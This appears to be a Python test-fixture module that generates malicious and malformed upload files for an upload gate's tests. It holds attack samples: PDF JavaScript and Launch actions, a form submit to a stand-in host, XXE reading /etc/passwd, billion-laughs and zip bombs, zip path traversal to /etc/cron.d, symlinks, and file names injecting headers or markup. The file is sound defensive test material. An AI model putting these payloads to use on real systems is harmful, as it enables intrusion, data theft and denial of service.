"""Files that lie: about their kind, their size, what they do when opened. Each has a word; `good` ones are taken."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from docx import Document as WordDocument
from PIL import Image

MEGABYTE = 1024 * 1024


@dataclass(frozen=True)
class BadFile:
    word: str
    name: str
    make: Callable[[], bytes]
    good: bool = False

    def __str__(self):
        return self.word


# --- PDF -------------------------------------------------------------------------------------------------------------


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages: int = 1, **options) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    made.save(out, **options)
    return out.getvalue()


def script(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_by_name(made):
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", action]))


def script_on_page(made):
    made.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def launch(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def launch_by_link(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    made.pages[0].obj.Annots = made.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)])
    )


def attachment(made):
    made.attachments["macro.exe"] = b"MZ" * 99


def form_of_xfa(made):
    made.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(made, b"<xdp/>"), Fields=[])


def sends_itself(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://qx.example/")


def ring_of_pages(made):
    made.Root.Pages.Kids[0] = made.Root.Pages


def bomb_in_a_stream(made):
    packed = zlib.compress(bytes(60 * MEGABYTE), 9)
    made.pages[0].obj.Contents = pikepdf.Stream(made, packed, Filter=pikepdf.Name.FlateDecode)


def deep(made):
    inner = pikepdf.Dictionary()
    for _ in range(300):
        inner = pikepdf.Dictionary(A=inner)
    made.Root.Deep = inner


def truncated() -> bytes:
    whole = pdf()
    return whole[: len(whole) // 2]


def with_a_password() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="mat-khau", owner="mat-khau"))


# --- Word ------------------------------------------------------------------------------------------------------------


@cache
def docx() -> bytes:
    made, out = WordDocument(), io.BytesIO()
    made.add_paragraph("Báo cáo thành tích")
    made.save(out)
    return out.getvalue()


def docx_with(**parts: bytes) -> bytes:
    """A good one, with parts put in or put in place of its own (`word__document_xml`)."""
    wanted = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return packed({**unpacked(docx()), **wanted})


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def relations(target: str, kind: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def macro_by_type() -> bytes:
    parts = unpacked(docx())
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return packed({**parts, "[Content_Types].xml": types})


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]><w>&j;</w>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w>&e;</w>'


def zip_with_password() -> bytes:
    content = bytearray(docx())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:  # the flag of every entry in the table of contents
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def zip_with_link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def many_parts() -> bytes:
    return packed({**unpacked(docx()), **{f"word/{n}.xml": b"" for n in range(2_500)}})


def lying_about_size() -> bytes:
    """The table of contents says 10 bytes, the part unpacks to 60 MB."""
    content = bytearray(packed({**unpacked(docx()), "word/media/a.bin": bytes(60 * MEGABYTE)}))
    place = content.rfind(b"PK\x01\x02")
    struct.pack_into("<I", content, place + 24, 10)
    return bytes(content)


# --- Pictures --------------------------------------------------------------------------------------------------------


def png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def png_that_says(width: int, height: int) -> bytes:
    """A small file whose head promises a huge picture."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(999))) + chunk(b"IEND", b"")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PAGE = "<!DOCTYPE html><title>Báo cáo</title><script>alert(1)</script>".encode()

FILES = [
    BadFile("empty", "bao-cao.pdf", lambda: b""),
    BadFile("one-byte", "bao-cao.pdf", lambda: b"%"),
    BadFile("text-named-pdf", "bao-cao.pdf", lambda: "Báo cáo".encode()),
    BadFile("page-named-pdf", "bao-cao.pdf", lambda: PAGE),
    BadFile("program-named-docx", "bao-cao.docx", lambda: b"MZ\x90\x00" + bytes(2000)),
    BadFile("pdf-named-docx", "bao-cao.docx", pdf),
    BadFile("docx-named-pdf", "bao-cao.pdf", docx),
    BadFile("svg", "bao-cao.svg", lambda: SVG),
    BadFile("svg-named-png", "bao-cao.png", lambda: SVG),
    BadFile("picture-named-pdf", "bao-cao.pdf", lambda: png(9, 9)),
    BadFile("picture", "bao-cao.png", lambda: png(9, 9)),
    BadFile("huge-picture", "anh.png", lambda: png(30_000, 30_000)),
    BadFile("huge-picture-in-words", "anh.png", lambda: png_that_says(100_000, 100_000)),
    BadFile("gif", "bao-cao.gif", lambda: b"GIF89a" + bytes(99)),
    BadFile("plain-zip", "bao-cao.docx", lambda: packed({"a.txt": b"a"})),
    BadFile("open-document", "bao-cao.docx", lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text"})),
    BadFile("old-word", "bao-cao.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999)),
    BadFile("rtf-named-docx", "bao-cao.docx", lambda: b"{\\rtf1 {\\object}}"),
    BadFile("pdf-with-script", "bao-cao.pdf", lambda: pdf(script)),
    BadFile("pdf-with-named-script", "bao-cao.pdf", lambda: pdf(script_by_name)),
    BadFile("pdf-with-script-on-page", "bao-cao.pdf", lambda: pdf(script_on_page)),
    BadFile(
        "pdf-script-in-object-stream",
        "bao-cao.pdf",
        lambda: pdf(script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    BadFile("pdf-that-launches", "bao-cao.pdf", lambda: pdf(launch)),
    BadFile("pdf-that-launches-by-link", "bao-cao.pdf", lambda: pdf(launch_by_link)),
    BadFile("pdf-with-file-inside", "bao-cao.pdf", lambda: pdf(attachment)),
    BadFile("pdf-with-xfa", "bao-cao.pdf", lambda: pdf(form_of_xfa)),
    BadFile("pdf-that-sends-itself", "bao-cao.pdf", lambda: pdf(sends_itself)),
    BadFile("pdf-with-password", "bao-cao.pdf", with_a_password),
    BadFile("pdf-cut-off", "bao-cao.pdf", truncated),
    BadFile("pdf-head-only", "bao-cao.pdf", lambda: b"%PDF-1.7\n"),
    BadFile("pdf-of-nothing-but-noise", "bao-cao.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 400),
    BadFile("pdf-ring-of-pages", "bao-cao.pdf", lambda: pdf(ring_of_pages)),
    BadFile("pdf-without-pages", "bao-cao.pdf", lambda: pdf(pages=0)),
    BadFile("pdf-of-501-pages", "bao-cao.pdf", lambda: pdf(pages=501)),
    BadFile("zip-bomb", "bao-cao.docx", lambda: docx_with(word__media__a_dot_bin=bytes(60 * MEGABYTE))),
    BadFile("zip-of-many-parts", "bao-cao.docx", many_parts),
    BadFile("zip-lying-about-size", "bao-cao.docx", lying_about_size),
    BadFile("zip-with-password", "bao-cao.docx", zip_with_password),
    BadFile("zip-with-link", "bao-cao.docx", zip_with_link),
    BadFile("zip-out-of-its-folder", "bao-cao.docx", lambda: packed({**unpacked(docx()), "../../etc/cron.d/a": b"a"})),
    BadFile("zip-from-the-root", "bao-cao.docx", lambda: packed({**unpacked(docx()), "/etc/cron.d/a": b"a"})),
    BadFile("zip-cut-off", "bao-cao.docx", lambda: docx()[:-40]),
    BadFile("docx-with-macro", "bao-cao.docx", lambda: docx_with(word__vbaProject_dot_bin=b"macro")),
    BadFile("docm-named-docx", "bao-cao.docx", macro_by_type),
    BadFile("docx-with-activex", "bao-cao.docx", lambda: docx_with(word__activeX__activeX1_dot_bin=b"a")),
    BadFile(
        "docx-with-picture-outside",
        "bao-cao.docx",
        lambda: docx_with(word___rels__header1_dot_xml_dot_rels=relations("file://qx.example/a.png", "image")),
    ),
    BadFile(
        "docx-with-object-outside",
        "bao-cao.docx",
        lambda: docx_with(word___rels__a_dot_xml_dot_rels=relations("mhtml:http://qx.example/a", "oleObject")),
    ),
    BadFile("docx-of-laughs", "bao-cao.docx", lambda: docx_with(word__document_dot_xml=LAUGHS)),
    BadFile("docx-reading-a-file", "bao-cao.docx", lambda: docx_with(word__document_dot_xml=OUTSIDE)),
    BadFile(
        "docx-types-of-laughs", "bao-cao.docx", lambda: packed({**unpacked(docx()), "[Content_Types].xml": LAUGHS})
    ),
    BadFile("docx-of-no-xml", "bao-cao.docx", lambda: docx_with(word__document_dot_xml=b"\x00\x01")),
    BadFile("zip-behind-a-pdf", "bao-cao.docx", lambda: pdf() + docx()),
    BadFile("pdf-behind-a-zip", "bao-cao.pdf", lambda: docx() + pdf()),
    BadFile("pdf-behind-a-page", "bao-cao.pdf", lambda: PAGE + pdf()),
    BadFile("of-21-mb", "bao-cao.pdf", lambda: pdf() + bytes(21 * MEGABYTE)),
    BadFile("two-endings", "bao-cao.pdf.exe", pdf),
    BadFile("no-ending", "bao-cao", pdf),
    BadFile("reversed-ending", "bao-cao-\u202efdp.exe", pdf),
    BadFile("name-of-300-letters", "b" * 300 + ".pdf", pdf),
    # Its pages cannot be drawn, so nobody could read it.
    BadFile("deep-pdf", "bao-cao.pdf", lambda: pdf(deep)),
    # Odd, but not bad: taken, and safe on the way out.
    BadFile("plain-pdf", "bao-cao.pdf", pdf, good=True),
    BadFile("plain-docx", "bao-cao.docx", docx, good=True),
    BadFile("pdf-with-bomb-in-a-stream", "bao-cao.pdf", lambda: pdf(bomb_in_a_stream), good=True),
    # Word writes the address of its own machine's template into every file: the gate takes it out.
    BadFile(
        "docx-with-template-outside",
        "bao-cao.docx",
        lambda: docx_with(
            word___rels__settings_dot_xml_dot_rels=relations("http://qx.example/a.dotm", "attachedTemplate")
        ),
        good=True,
    ),
    BadFile("page-behind-a-pdf", "bao-cao.pdf", lambda: pdf() + PAGE, good=True),
    BadFile("capitals", "BAO CAO.PDF", pdf, good=True),
    BadFile("vietnamese-name", "Báo cáo thành tích Đỗ Thị Hòa – 2020.pdf", pdf, good=True),
    BadFile("vietnamese-name-nfd", "Báo cáo Hòa.pdf", pdf, good=True),
    BadFile("name-with-folders", "../../../etc/bao-cao.pdf", pdf, good=True),
    BadFile("name-with-windows-folders", "C:\\fakepath\\bao-cao.pdf", pdf, good=True),
    BadFile("name-of-markup", '"><img src=x onerror=alert(1)>.pdf', pdf, good=True),
    BadFile("name-with-line-break", "bao\r\nSet-Cookie: qx=1\r\n.pdf", pdf, good=True),
    BadFile("name-with-quotes", 'bao\'cao";x="y.pdf', pdf, good=True),
    BadFile("name-of-percents", "%2e%2e%2f%00bao-cao%0a.pdf", pdf, good=True),
    BadFile("name-with-nul", "bao\x00cao.pdf", pdf, good=True),
    BadFile("name-of-spaces", "   .pdf", pdf, good=True),
    BadFile("name-of-emoji", "🎉🏆.pdf", pdf, good=True),
]
